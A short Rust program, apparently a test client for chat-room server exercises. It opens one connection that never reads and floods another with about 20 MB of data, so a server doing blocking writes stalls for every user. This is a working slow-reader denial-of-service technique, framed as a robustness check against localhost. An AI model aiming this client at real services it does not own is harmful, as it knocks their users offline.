//! A client that makes a naive room fall silent, and does a good one no harm.

use std::env;
use std::io::{self, Write};
use std::net::TcpStream;
use std::thread;

fn main() -> io::Result<()> {
    let addr = env::args().nth(1).unwrap_or("127.0.0.1:8080".to_string());
    attack(&addr)
}

/// Does to the room at `addr` what its server isn't prepared for.
fn attack(addr: &str) -> io::Result<()> {
    let _deaf = TcpStream::connect(addr)?; // in the room, and never reads
    let mut loud = TcpStream::connect(addr)?;
    let line = ".".repeat(1000) + "\n";
    // More than the buffers between the server and the deaf one hold: 4 MB on Linux, as a rule.
    for _ in 0..20_000 {
        loud.write_all(line.as_bytes())?;
    }
    thread::park(); // whoever leaves sets the room free
    Ok(())
}
